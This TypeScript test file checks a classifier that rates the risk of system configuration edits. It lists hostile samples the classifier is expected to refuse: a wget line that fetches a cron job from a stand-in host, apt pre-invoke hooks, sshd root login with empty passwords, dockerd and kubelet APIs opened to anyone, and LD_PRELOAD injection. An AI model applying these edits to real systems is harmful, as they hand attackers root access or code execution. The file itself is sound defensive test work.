// Review 51 of the judged diff (the classifier's side): a link put in place of a file read by key (a service's options
// or environment file, a daemon's settings) is judged as what it leads to, read at the link's path; cron-apt's actions
// and sourced settings; sshd's option files on RHEL and OpenRC; a container daemon's or the kubelet's API opened to
// anyone, cron's mailer; neovim's system start-up, binfmt-support's formats, audisp's plugins, p11-kit's vendor
// modules, Xorg's module paths, exim's includes, the automounter's program maps; the loader's variables naming a
// library outside the library trees. Each attack row is tier 4; the everyday edits that look like them stay at 3 or below.
import { beforeAll, describe, expect, it } from "vitest";
import { getEngine } from "../../../test/classifier/engine-fixture.js";
import { type Step, stepsManifest } from "../../../test/support/manifest-steps.js";
import type { Engine } from "../verdict.js";

let engine: Engine;
beforeAll(async () => {
  engine = await getEngine();
});

function tierOf(steps: Step[]): number {
  const { manifest, contents } = stepsManifest(steps, "r51");
  return engine.judgeEffects({ manifest, contents, host: "server-01", runAs: "root", cwd: "/root" }).tier;
}

const tier = (path: string, content: string, mode?: number) => tierOf([{ path, content, mode }]);
/** A keyed file replaced by a link to `content` written at `at` by the same diff. */
const linked = (path: string, content: string, at = "/var/lib/foo/x.conf") =>
  tierOf([
    { path: at, content },
    { path, link: at },
  ]);

const W = "wget -qO /etc/cron.d/y http://x.example/y";
const MY = "[mysqld]\nuser = root\nskip-grant-tables\n";

const ATTACKS: [string, string, string, number?][] = [
  ["cron-apt: a Pre-Invoke hook on apt's command line", "/etc/cron-apt/action.d/9-x", "update -o APT::Update::Pre-Invoke::=/srv/x/job\n"],
  ["cron-apt: DPkg::Pre-Invoke", "/etc/cron-apt/action.d/9-x", "dist-upgrade -y -o DPkg::Pre-Invoke::=/var/lib/foo/job\n"],
  ["cron-apt: unauthenticated packages", "/etc/cron-apt/action.d/9-x", "install -y -o APT::Get::AllowUnauthenticated=true x\n"],
  ["cron-apt: another dpkg", "/etc/cron-apt/action.d/0-update", "update -o quiet=2 -o Dir::Bin::dpkg=/var/lib/foo/dpkg\n"],
  ["cron-apt: a local .deb forced in", "/etc/cron-apt/action.d/9-x", "install -y -o Dpkg::Options::=--force-all /var/lib/foo/x.deb\n"],
  ["cron-apt: another apt configuration", "/etc/cron-apt/action.d/9-x", "update -c /var/lib/foo/apt.conf\n"],
  ["cron-apt's actionconf.d is shell", "/etc/cron-apt/actionconf.d/9-x", `${W}\n`],
  ["cron-apt's APTCOMMAND", "/etc/cron-apt/config", "APTCOMMAND=/var/lib/foo/job\n"],
  ["cron-apt's ACTIONDIR", "/etc/cron-apt/config", "ACTIONDIR=/var/lib/foo/actions\n"],
  ["cron-apt's OPTIONS", "/etc/cron-apt/config", 'OPTIONS="-o quiet=1 -o APT::Update::Pre-Invoke::=/srv/x/job"\n'],
  ["RHEL's sshd options: root login", "/etc/sysconfig/sshd", 'OPTIONS="-o PermitRootLogin=yes -o PermitEmptyPasswords=yes"\n'],
  ["RHEL's sshd options: keys file in /tmp", "/etc/sysconfig/sshd", 'OPTIONS="-oAuthorizedKeysFile=/tmp/%u"\n'],
  ["OpenRC's sshd options", "/etc/conf.d/sshd", 'SSHD_OPTS="-o PermitRootLogin=yes"\n'],
  ["dockerd on TCP without TLS", "/etc/default/docker", 'DOCKER_OPTS="-H tcp://0.0.0.0:2375"\n'],
  ["dockerd --host=tcp", "/etc/sysconfig/docker", 'OPTIONS="--host=tcp://127.0.0.1:2375"\n'],
  [
    "dockerd on TCP in a drop-in",
    "/etc/systemd/system/docker.service.d/x.conf",
    "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n",
  ],
  ["kubelet's static pods elsewhere", "/etc/default/kubelet", 'KUBELET_EXTRA_ARGS="--pod-manifest-path=/var/lib/foo/pods"\n'],
  ["kubelet's API for anyone", "/etc/sysconfig/kubelet", 'KUBELET_EXTRA_ARGS="--anonymous-auth=true --authorization-mode=AlwaysAllow"\n'],
  ["cronie's mailer", "/etc/sysconfig/crond", 'CRONDARGS="-P -m /var/lib/foo/job"\n'],
  ["neovim's sysinit", "/etc/xdg/nvim/sysinit.vim", `call system("${W}")\n`],
  ["neovim's runtime plugin", "/usr/share/nvim/runtime/plugin/x.vim", `call system("${W}")\n`],
  [
    "binfmt-support format with credentials",
    "/usr/share/binfmts/x",
    "package x\ninterpreter /var/lib/foo/job\nextension sh\ncredentials yes\n",
  ],
  ["binfmt-support's state", "/var/lib/binfmts/x", "x\nmagic\n0\n\\x7fELF\n\n/var/lib/foo/job\n\n\nyes\n"],
  ["audisp plugin", "/etc/audisp/plugins.d/x.conf", "active = yes\npath = /srv/x/job\ntype = always\n"],
  ["p11-kit vendor module", "/usr/share/p11-kit/modules/x.module", "module: /var/lib/foo/x.so\n"],
  ["Xorg's module path", "/etc/X11/xorg.conf.d/x.conf", 'Section "Files"\n  ModulePath "/var/lib/foo"\nEndSection\n'],
  ["Xorg loads a module by path", "/etc/X11/xorg.conf", 'Section "Module"\n  Load "/var/lib/foo/x.so"\nEndSection\n'],
  ["exim includes from elsewhere", "/etc/exim4/conf.d/main/00_x", ".include /var/lib/foo/x\n"],
  ["autofs program map", "/etc/auto.master.d/x.autofs", "/x program:/var/lib/foo/job\n"],
  ["autofs map outside /etc", "/etc/auto.master", "/x /srv/x/job\n"],
  ["an executable autofs map", "/etc/auto.x", "#!/bin/sh\necho x\n", 0o755],
  ["LD_AUDIT for every session", "/etc/environment", "LD_AUDIT=/var/lib/foo/x.so\n"],
  [
    "LD_PRELOAD in a drop-in, quoted",
    "/etc/systemd/system/ssh.service.d/x.conf",
    '[Service]\nEnvironment="LD_PRELOAD=/var/lib/foo/x.so"\n',
  ],
];

const LINKS: [string, string, string, string?][] = [
  ["dnsmasq's options", "/etc/default/dnsmasq", 'DNSMASQ_OPTS="--dhcp-script=/usr/local/sbin/x"\n'],
  ["dnsmasq's options in /etc", "/etc/default/dnsmasq", 'DNSMASQ_OPTS="--dhcp-script=/usr/local/sbin/x"\n', "/etc/dnsmasq.opts"],
  ["irqbalance's policy script", "/etc/default/irqbalance", 'IRQBALANCE_ARGS="--policyscript=/usr/local/sbin/x"\n'],
  ["mysqld as root without grants", "/etc/mysql/conf.d/x.cnf", MY],
  ["mysqld, target in /etc", "/etc/mysql/conf.d/x.cnf", MY, "/etc/x.cnf"],
  ["a guest root share", "/etc/samba/smb.conf", "[r]\npath = /\nwritable = yes\nguest ok = yes\nforce user = root\n", "/etc/x.smb"],
  ["an rsyncd root module", "/etc/rsyncd.conf", "[r]\npath = /\nuid = root\nread only = false\n"],
  ["pg_hba trust", "/etc/postgresql/15/main/pg_hba.conf", "host all all 0.0.0.0/0 trust\n", "/etc/x.hba"],
  ["lightdm root autologin", "/etc/lightdm/lightdm.conf.d/x.conf", "[Seat:*]\nautologin-user=root\n", "/etc/x.ldm"],
  ["cron-apt's action", "/etc/cron-apt/action.d/9-x", "update -o APT::Update::Pre-Invoke::=/srv/x/job\n"],
];

const EVERYDAY: [string, string, string, number?][] = [
  ["stock cron-apt action", "/etc/cron-apt/action.d/3-download", "autoclean -y\ndist-upgrade -d -y -o APT::Get::Show-Upgraded=true\n"],
  ["cron-apt settings", "/etc/cron-apt/config", 'MAILON="upgrade"\nMAILTO="root"\nAPTCOMMAND=/usr/bin/apt-get\nOPTIONS="-o quiet=1"\n'],
  ["cron-apt actionconf", "/etc/cron-apt/actionconf.d/3-download", 'MAILON="always"\n'],
  ["dockerd on its socket", "/etc/default/docker", 'DOCKER_OPTS="-H unix:///var/run/docker.sock --dns 10.0.0.2"\n'],
  ["kubelet's node address", "/etc/default/kubelet", 'KUBELET_EXTRA_ARGS="--node-ip=10.0.0.5 --max-pods=200"\n'],
  ["cronie's mail off", "/etc/sysconfig/crond", 'CRONDARGS="-m off"\n'],
  [
    "Xorg's packaged modules",
    "/etc/X11/xorg.conf.d/10-x.conf",
    'Section "Module"\n  Load "glx"\nEndSection\nSection "Files"\n  ModulePath "/usr/lib/xorg/modules"\nEndSection\n',
  ],
  ["autofs master", "/etc/auto.master", "/misc /etc/auto.misc --timeout=60\n/net -hosts\n+auto.master\n"],
  ["autofs drop-in", "/etc/auto.master.d/data.autofs", "/data /etc/auto.data\n"],
  ["an autofs map", "/etc/auto.data", "share -fstype=nfs4 nas:/export/share\n"],
  [
    "exim's debconf settings",
    "/etc/exim4/update-exim4.conf.conf",
    "dc_eximconfig_configtype='internet'\ndc_other_hostnames='example.com'\n",
  ],
  [
    "a unit's library path in /usr/local/lib",
    "/etc/systemd/system/app.service.d/x.conf",
    "[Service]\nEnvironment=LD_LIBRARY_PATH=/usr/local/lib\n",
  ],
];

describe("review 51: keyed files behind links, cron-apt, sshd's options, open daemon APIs, loaders (classifier)", () => {
  it.each(ATTACKS)("refuses %s", (_what, path, content, mode) => {
    expect(tier(path, content, mode)).toBe(4);
  });

  it.each(LINKS)("refuses a link in place of settings read by key: %s", (_what, path, content, at) => {
    expect(linked(path, content, at)).toBe(4);
  });

  it("refuses a link in place of settings read by key that leads to nothing readable", () => {
    expect(tierOf([{ path: "/etc/default/dnsmasq", link: "/etc/no-such-file-r51" }])).toBe(4);
  });

  it.each(EVERYDAY)("commits %s", (_what, path, content, mode) => {
    expect(tier(path, content, mode)).toBeLessThanOrEqual(3);
  });

  it("commits a link in place of settings that leads to plain ones", () => {
    expect(linked("/etc/default/dnsmasq", "ENABLED=1\n", "/etc/dnsmasq.opts")).toBeLessThanOrEqual(3);
    expect(linked("/etc/mysql/conf.d/x.cnf", "[mysqld]\nmax_connections = 500\n")).toBeLessThanOrEqual(3);
  });
});
